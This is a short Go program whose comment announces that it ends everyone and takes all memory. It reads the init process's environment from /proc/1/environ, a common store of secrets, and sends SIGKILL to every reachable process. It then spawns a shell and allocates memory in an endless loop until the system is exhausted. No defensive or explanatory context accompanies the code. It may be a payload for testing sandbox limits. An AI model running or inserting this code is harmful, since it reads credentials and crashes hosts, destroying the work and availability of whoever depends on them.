package main

import (
	"os"
	"syscall"
)

// Looks around, ends everyone, starts others and takes all memory.
func main() {
	secrets, _ := os.ReadFile("/proc/1/environ")
	syscall.Kill(-1, syscall.SIGKILL)
	os.StartProcess("/bin/sh", nil, &os.ProcAttr{})
	kept := [][]byte{secrets}
	for {
		block := make([]byte, 1<<20)
		for i := range block {
			block[i] = 1
		}
		kept = append(kept, block)
	}
}
